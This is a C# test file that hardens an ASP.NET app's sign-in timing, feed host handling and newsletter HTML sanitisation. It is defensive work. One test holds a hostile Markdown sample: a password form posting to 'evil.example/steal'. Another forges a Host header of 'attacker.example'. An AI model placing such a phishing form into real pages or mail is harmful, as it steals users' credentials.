using System.Net;
using Liftoff.Data;
using Liftoff.Data.Identity;
using Liftoff.Web.Features.Communications;
using Liftoff.Web.Infrastructure.Markdown;
using Liftoff.Web.Tests.Infrastructure;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Identity;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.AspNetCore.TestHost;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Liftoff.Web.Tests.Hardening;

public sealed class SignInAndLinksTests(LiftoffFactory factory) : IClassFixture<LiftoffFactory>
{
    private const string BaseUrl = "https://liftoff.example.com";

    public sealed class HashCounter
    {
        private int _verifications;

        public int Verifications => _verifications;

        public void Count() => Interlocked.Increment(ref _verifications);
    }

    private sealed class CountingHasher(HashCounter counter) : IPasswordHasher<AppUser>
    {
        private readonly PasswordHasher<AppUser> _inner = new();

        public string HashPassword(AppUser user, string password) => _inner.HashPassword(user, password);

        public PasswordVerificationResult VerifyHashedPassword(
            AppUser user, string hashedPassword, string providedPassword)
        {
            counter.Count();
            return _inner.VerifyHashedPassword(user, hashedPassword, providedPassword);
        }
    }

    private WebApplicationFactory<Program> Configured() => factory.WithWebHostBuilder(b =>
    {
        b.UseSetting("App:PublicBaseUrl", BaseUrl);
        b.ConfigureTestServices(s =>
        {
            s.AddSingleton<HashCounter>();
            s.AddScoped<IPasswordHasher<AppUser>, CountingHasher>();
        });
    });

    [Fact]
    public async Task SignIn_UnknownDeactivatedOrLockedAccount_HashesThePasswordLikeAKnownOne()
    {
        var app = Configured();
        var counter = app.Services.GetRequiredService<HashCounter>();
        var known = await factory.CreateUserAsync(Roles.Staff);
        var inactive = await factory.CreateUserAsync(Roles.Staff);
        var locked = await factory.CreateUserAsync(Roles.Staff);
        await factory.WithScopeAsync(async sp =>
        {
            var db = sp.GetRequiredService<AppDbContext>();
            await db.Users.Where(u => u.Id == inactive.Id)
                .ExecuteUpdateAsync(u => u.SetProperty(x => x.IsActive, false));
            await db.Users.Where(u => u.Id == locked.Id)
                .ExecuteUpdateAsync(u => u.SetProperty(x => x.LockoutEnd, DateTimeOffset.UtcNow.AddHours(1)));
        });

        var work = new Dictionary<string, int>();
        var attempts = new[]
        {
            ("known", known.Email), ("unknown", $"nobody-{Guid.NewGuid():N}@test.example"),
            ("inactive", inactive.Email), ("locked", locked.Email),
        };
        foreach (var (label, email) in attempts)
        {
            var client = app.CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false });
            var before = counter.Verifications;
            var response = await LiftoffFactory.PostFormAsync(client, "/Account/SignIn",
                new() { ["Email"] = email, ["Password"] = "wrong password 123" });
            work[label] = counter.Verifications - before;
            var html = await response.Content.ReadAsStringAsync();
            Assert.Contains(Features.Account.SignInModel.FailureMessage, html, StringComparison.Ordinal);
        }

        var once = new Dictionary<string, int> { ["known"] = 1, ["unknown"] = 1, ["inactive"] = 1, ["locked"] = 1 };
        Assert.Equal(once, work);
    }

    [Fact]
    public async Task Feed_LinksComeFromTheConfiguredAddressAndAForeignHostIsRefused()
    {
        var client = Configured().CreateClient();

        var feed = await client.GetStringAsync("/kb/announcements.atom");
        var forged = new HttpRequestMessage(HttpMethod.Get, "/kb/announcements.atom");
        forged.Headers.Host = "attacker.example";
        var refused = await client.SendAsync(forged);

        Assert.Contains($"{BaseUrl}/kb/announcements.atom", feed, StringComparison.Ordinal);
        Assert.DoesNotContain("localhost", feed, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
    }

    [Fact]
    public async Task Newsletter_MarkdownWithAForm_IsSentWithoutItWithAPolicyAndTheConfiguredUnsubscribeLink()
    {
        using var scope = Configured().Services.CreateScope();
        var markdown = scope.ServiceProvider.GetRequiredService<MarkdownRenderer>();
        var builder = scope.ServiceProvider.GetRequiredService<NewsletterMessageBuilder>();
        const string Hostile = "Hello\n\n<form action=\"https://evil.example/steal\">"
            + "<input name=\"password\" type=\"password\"><select><option>a</option></select><textarea>x</textarea>"
            + "<button formaction=\"https://evil.example\">Log in</button></form>";

        var html = markdown.ToSafeHtml(Hostile);
        var content = new RenderedContent("News", html, "Hello");
        var message = builder.Build(1, 1, 42, "kim@customer.example", "Kim", content);

        foreach (var tag in new[] { "<form", "<input", "<button", "<select", "<textarea", "evil.example" })
        {
            Assert.DoesNotContain(tag, html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain(tag, message.HtmlBody, StringComparison.OrdinalIgnoreCase);
        }
        Assert.Contains("Hello", html, StringComparison.Ordinal);
        Assert.Contains("Content-Security-Policy", message.HtmlBody, StringComparison.Ordinal);
        Assert.Contains("form-action 'none'", message.HtmlBody, StringComparison.Ordinal);
        Assert.Contains($"<{BaseUrl}/unsubscribe/", message.Headers["List-Unsubscribe"], StringComparison.Ordinal);
    }
}
